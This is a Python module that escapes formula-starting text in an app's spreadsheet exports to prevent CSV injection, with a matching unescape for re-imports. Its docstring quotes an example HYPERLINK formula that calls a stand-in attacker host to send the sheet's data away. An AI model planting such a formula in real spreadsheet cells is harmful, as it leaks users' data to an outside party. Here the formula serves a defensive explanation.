"""Cells for every spreadsheet the app writes (CSV, TSV, XLSX): the one place formulas are neutralised.

Names come from imports and forms. A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a
tab or carriage return before one) is run by Excel, LibreOffice and Sheets as a formula: a desa named
``=HYPERLINK("http://evil.example/?d="&A1,"Klik")`` would send the sheet's data away when clicked. Such
text gets a leading apostrophe (OWASP's CSV-injection advice), which spreadsheets show as text.
Numbers are left alone and stay numbers, negative ones included.

The imports that read our own exports back (regions, roster) call ``unescape`` so a round trip
gives back the same names.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet shows it: text that would start a formula gets an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return _QUOTE + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


def unescape(value: Any) -> Any:
    """The text ``safe_cell`` was given, for a cell read back from one of our exports."""
    if isinstance(value, str) and value.startswith(_QUOTE) and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


class SafeCsvWriter:
    """``csv.writer`` whose rows go through ``safe_cell``."""

    def __init__(self, stream, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, values: Iterable[Any]) -> None:
        self._writer.writerow(safe_row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)
